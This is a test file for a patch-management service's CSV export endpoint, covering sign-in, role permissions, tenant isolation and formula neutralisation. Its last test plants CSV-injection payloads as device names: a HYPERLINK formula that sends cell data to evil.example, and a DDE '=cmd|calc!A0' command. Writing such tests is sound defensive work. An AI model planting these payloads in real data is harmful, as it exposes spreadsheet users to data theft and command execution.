import { randomUUID } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { closePools } from '../../db/tenant.ts'
import { jobContext } from '../auth/job-context.ts'
import { findSession, startSession } from '../auth/sessions.ts'
import { closeAuth } from '../auth/store.ts'
import { requestErasure } from '../client-erasures/request-erasure.ts'
import { csvListNames } from '../csv/schema.ts'
import { startTestDoor, type TestDoor } from '../device-api/testing.ts'
import { roles } from '../permissions.ts'
import { hashToken } from '../secrets/secret-token.ts'
import { answerCsv } from './answer-csv.ts'
import { findLeaks, hiddenFrom } from './isolation.ask.ts'
import { type Caller, makeWorld, type World } from './isolation.world.ts'

let door: TestDoor
let world: World
beforeAll(async () => {
  door = await startTestDoor()
  world = await makeWorld(door)
  for (const part of ['first', 'second', 'foreign'] as const) await putAway(part)
})
afterAll(async () => {
  await closePools()
  await closeAuth()
  await door?.stop()
})

type Person = keyof World['people']
// Each key of `people` once; the type of the table keeps it whole.
const everybody = Object.keys(hiddenFrom) as Person[]

/** An archived client of this name, and the proof of its erasure. */
async function putAway(part: 'first' | 'second' | 'foreign'): Promise<void> {
  const mspId = world.mspIds[part === 'foreign' ? 'foreign' : 'own']
  const name = `Put away ${world.canaries[part]}`
  const { clientId } = await door.factories.makeClient(mspId, { name })
  await door.factories.inMsp(mspId, (tx) => tx`update clients set archived_at = now() where id = ${clientId}`)
  await requestErasure(jobContext(mspId, 'test'), { clientId, name, reason: 'A test' })
  await door.factories.inMsp(
    mspId,
    (tx) => tx`update client_erasures set erased_at = now() where client_id = ${clientId}`,
  )
}

async function fetchCsv(list: string, caller: Caller | null, slug: string, query = '', headers = {}) {
  const now = new Date()
  const token = caller && (await startSession({ userId: caller.userId, stage: 'full', method: 'totp' }, now)).token
  const request = new Request(`http://127.0.0.1/api/m/${slug}/csv/${list}${query}`, { headers })
  const response = await answerCsv(request, {
    msp: slug,
    list,
    findSignedIn: async () => (token ? findSession(hashToken(token), now) : null),
  })
  return { status: response.status, headers: response.headers, text: await response.text() }
}

/** What the file of one thing is asked with: a report that every caller of its MSP may see, or is refused. */
const queryOf = (list: string) => (list === 'report-rows' ? `?report=${world.first.reportId}&` : '?')

/** Who has which list, by role: changed by hand when it changes on purpose, so that somebody reads the difference. */
const [head = '', ...lines] = readFileSync(new URL('./answer-csv.golden.txt', import.meta.url), 'utf8')
  .trimEnd()
  .split('\n')
const columns = ['owner', 'admin', 'approver', 'technician', 'billing', 'readOnly', 'clientManager'] as const
const golden = new Map(lines.map((line) => [line.split(/\s+/)[0] ?? '', line.split(/\s+/).slice(1).map(Number)]))

test('the golden table has a column for each role and a line for each list', () => {
  expect(head.trim().split(/\s+/)).toEqual(roles)
  expect([...golden.keys()]).toEqual([...csvListNames])
})

describe.each(csvListNames)('%s', (list) => {
  test('nobody signed in, or a list of an MSP they do not belong to', async () => {
    const { owner, otherMsp } = world.people
    expect(await fetchCsv(list, null, owner.slug)).toMatchObject({ status: 401, text: 'Sign in to go on.\n' })
    const refused = await fetchCsv(list, otherMsp, owner.slug)
    expect(refused).toMatchObject({ status: 404, text: 'This page was not found\n' })
    expect(await fetchCsv(list, otherMsp, 'no-such-msp')).toMatchObject({ status: 404, text: refused.text })
  })

  test.each(columns)('%s: as the golden table says', async (who) => {
    const caller = world.people[who]
    expect((await fetchCsv(list, caller, caller.slug, queryOf(list))).status).toBe(
      golden.get(list)?.[columns.indexOf(who)],
    )
  })

  test.each(everybody)('%s: nothing of what they may not see, with and without filters', async (who) => {
    const caller = world.people[who]
    const parts = hiddenFrom[who]
    const hiddenClient = world[parts[0] ?? 'foreign'].clientId
    for (const query of [
      '',
      `?client=${hiddenClient}`,
      '?filter=all&search=canary',
      '?state=lifted&after=junk&client=x',
      `?report=${world[parts[0] ?? 'foreign'].reportId}&number=installed`,
    ]) {
      const { status, text } = await fetchCsv(list, caller, caller.slug, query)
      expect([200, 403, 404]).toContain(status)
      expect(findLeaks(world, parts, text)).toEqual([])
    }
  })

  test('the owner has their own', async () => {
    const { owner } = world.people
    const { status, text, headers } = await fetchCsv(list, owner, owner.slug, `${queryOf(list)}filter=all`)
    expect(status).toBe(200)
    // Each list names both clients to who sees all: else a test of what is hidden proves nothing. Rows of one report name one client's alone.
    if (list !== 'report-rows')
      for (const part of ['first', 'second'] as const) expect(text).toContain(world.canaries[part])
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="patchward-own-msp-[a-z-]+-\d{4}-\d\d-\d\d\.csv"$/,
    )
    expect(headers.get('cache-control')).toBe('private, no-store')
  })

  test('not for a page of another site', async () => {
    const { owner } = world.people
    expect((await fetchCsv(list, owner, owner.slug, '', { 'sec-fetch-site': 'cross-site' })).status).toBe(403)
  })
})

test('a list that does not exist, and an address that is none', async () => {
  const { owner } = world.people
  for (const list of ['users', '__proto__', 'constructor'])
    expect(await fetchCsv(list, owner, owner.slug)).toMatchObject({ status: 404, text: 'This list was not found\n' })
  expect((await fetchCsv('devices', owner, '..%2f')).status).toBe(404)
})

test('a client of others is not found in the audit log, in the words for one that never was', async () => {
  const { technician } = world.people
  const { owner } = world.people
  const hidden = await fetchCsv('audit', owner, owner.slug, `?client=${world.foreign.clientId}`)
  expect(hidden).toMatchObject({ status: 404, text: 'This client was not found\n' })
  expect((await fetchCsv('audit', owner, owner.slug, `?client=${randomUUID()}`)).text).toBe(hidden.text)
  expect((await fetchCsv('audit', technician, technician.slug)).status).toBe(403)
})

test('taking the audit log is written into it, with the part that was taken', async () => {
  const { owner } = world.people
  await fetchCsv('audit', owner, owner.slug, `?client=${world.first.clientId}&action=hold:set`)
  const { text } = await fetchCsv('audit', owner, owner.slug, '?action=audit:export')
  expect(text.split('\r\n')[1]).toContain(`audit:export,done,Audit log`)
  expect(text).toContain(`""action"":""hold:set""`)
})

test('devices that call themselves formulas, in each list that names them', async () => {
  const { owner } = world.people
  const client = { mspId: world.mspIds.own, clientId: world.first.clientId, siteId: world.first.siteId }
  const hostName = '=HYPERLINK("https://evil.example/?"&A1,"ok")'
  const device = await door.addDevice(client, { hostName: '=cmd|calc!A0', osName: '@SUM(1+1)*cmd' })
  await device.checkIn()
  await door.factories.inMsp(
    world.mspIds.own,
    (tx) => tx`update devices set host_name = ${hostName} where id = ${device.deviceId}`,
  )
  const { text } = await fetchCsv('devices', owner, owner.slug)
  expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""ok"")"`)
  for (const [place] of text.matchAll(/(^|,|\n)"?[=+@]/g)) expect(place).toBe('no formula at the start of a cell')
})
